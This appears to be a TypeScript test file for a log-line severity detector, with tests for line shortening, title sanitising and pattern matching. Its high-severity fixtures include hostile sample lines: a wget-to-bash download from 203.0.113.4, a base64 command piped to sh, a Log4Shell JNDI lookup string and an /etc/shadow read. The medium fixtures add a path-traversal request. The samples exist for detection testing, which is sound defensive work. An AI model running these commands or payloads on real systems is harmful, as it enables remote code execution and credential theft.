/** What a line says by itself, how it is shortened, and what the options ignore. */
import assert from 'node:assert/strict';
import { zstdCompressSync } from 'node:zlib';
import { test } from 'node:test';
import fc from 'fast-check';
import { lineKinds } from '#baselines';
import { shortLine, withLine } from '../../detectors/line-phrase.ts';
import { weighLine } from '../../detectors/line-weight.ts';
import { occurs } from '../../detectors/log-novelty/ignore.ts';
import { lineKind } from '../../src/decode/template.ts';

function severityOf(line: string): string {
  const { template, severityText } = lineKind(line);
  return weighLine(template, severityText).severity;
}

const lines: Record<string, string[]> = {
  high: [
    'panic: runtime error: invalid memory address',
    '2026-03-02 FATAL could not bind to port 80',
    'sh: 1: wget -qO- http://203.0.113.4/a | bash',
    'bash -c "echo aGVsbG8= | base64 -d | sh"',
    'open /etc/shadow: no such file',
    'app[123]: segfault at 0 ip 00007f1c sp 00007ffe error 4',
    'GET /?x=${jndi:ldap://203.0.113.4/a} HTTP/1.1 404',
    'ERROR permission denied for table orders',
    'Exception in thread "main" java.lang.OutOfMemoryError: Java heap space',
    '{"level":"fatal","msg":"ledger lost"}',
  ],
  medium: [
    'ERROR cannot reach supplier',
    '{"level":"error","msg":"supplier answered 503"}',
    'level=error msg="supplier answered 503"',
    'java.lang.NullPointerException: order is null',
    'Traceback (most recent call last):',
    "KeyError: 'customer'",
    'Failed password for root from 203.0.113.9 port 22 ssh2',
    'pam_unix(sshd:auth): authentication failure; logname= uid=0',
    'sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/bash',
    'GET /../../windows/win.ini HTTP/1.1 400',
    'write /data/ledger: no space left on device',
  ],
  low: [
    'INFO order 12 placed in 4 ms',
    'WARN retry 3 of 5',
    '{"level":"info","msg":"no error was found"}',
    'GET /login HTTP/1.1 200',
    'Accepted publickey for deploy from 203.0.113.9 port 22 ssh2',
    'Server listening on 0.0.0.0 port 8080',
    'INFO ErrorHandler registered',
    'INFO shell scripts were loaded from /usr/share/shop',
  ],
};

for (const [severity, samples] of Object.entries(lines)) {
  for (const sample of samples) test(`weighs as ${severity}: ${sample}`, () => assert.equal(severityOf(sample), severity));
}

test('a line of 400 hostile signs is weighed and shortened at once', () => {
  for (const sign of ['a', 'curl ', '../', 'Exception', '<*> ', 'a.', '| ', '-', ' ', 'audit ', '[']) {
    const template = sign.repeat(400).slice(0, 400);
    const before = performance.now();
    for (let round = 0; round < 20; round += 1) {
      weighLine(template, undefined);
      shortLine(template);
    }
    assert.ok(performance.now() - before < 400, `${sign}: ${performance.now() - before} ms`);
  }
});

test('leaves out what stands in front of the message', () => {
  assert.equal(shortLine('INFO t.s.TravelServiceImpl#<*> TraceID: <*> SpanID: <*> [getRoute][Get Route By Id Failed]'), '[getRoute][Get Route By Id Failed]');
  assert.equal(shortLine('ERROR permission denied opening ledger {level,msg,ts}'), 'permission denied opening ledger');
  assert.equal(shortLine('<*> <*> <*>'), '<*> <*> <*>');
});

test('a title stays under 120 characters on one line, whatever the line holds', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (template) => {
      const title = withLine('checkout (worker) wrote a kind of line it never wrote before', template);
      assert.ok(title.length < 120, `${title.length}`);
      // oxlint-disable-next-line no-control-regex
      assert.doesNotMatch(title, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    }),
  );
});

test('a pattern matches its parts in order, in any case, and nothing else has a meaning', () => {
  assert.equal(occurs('retry * of', 'WARN Retry <*> of <*>'), true);
  assert.equal(occurs('of * retry', 'WARN retry <*> of <*>'), false);
  assert.equal(occurs('(a+)+$', 'aaaa'), false);
  assert.equal(occurs('***', 'anything'), true);
});

test('1,000 kinds of lines of a service stay under 64 KiB as stored', () => {
  const { kind } = lineKinds((line: { templateId: string; template: string }) => line);
  const state = kind.empty();
  const words = ['order', 'cart', 'ledger', 'payment', 'supplier', 'parcel', 'customer', 'refund', 'digest', 'invoice'];
  for (let at = 0; at < 1_000; at += 1) {
    const { templateId, template } = lineKind(`INFO ${words[at % 10]} ${words[Math.floor(at / 10) % 10]} was ${words[Math.floor(at / 100)]}ed after 12 ms`);
    for (const day of [0, 1, 2, 3]) kind.add(state, { templateId, template }, { timeMs: Date.UTC(2026, 2, 2 + day, 6, at % 60), voter: 1 + ((at + day) % 12), isTaught: false, count: 40 });
  }
  const bytes = zstdCompressSync(JSON.stringify(kind.pack(state))).length;
  assert.ok(bytes < 64 * 1_024, `${bytes} bytes`);
});
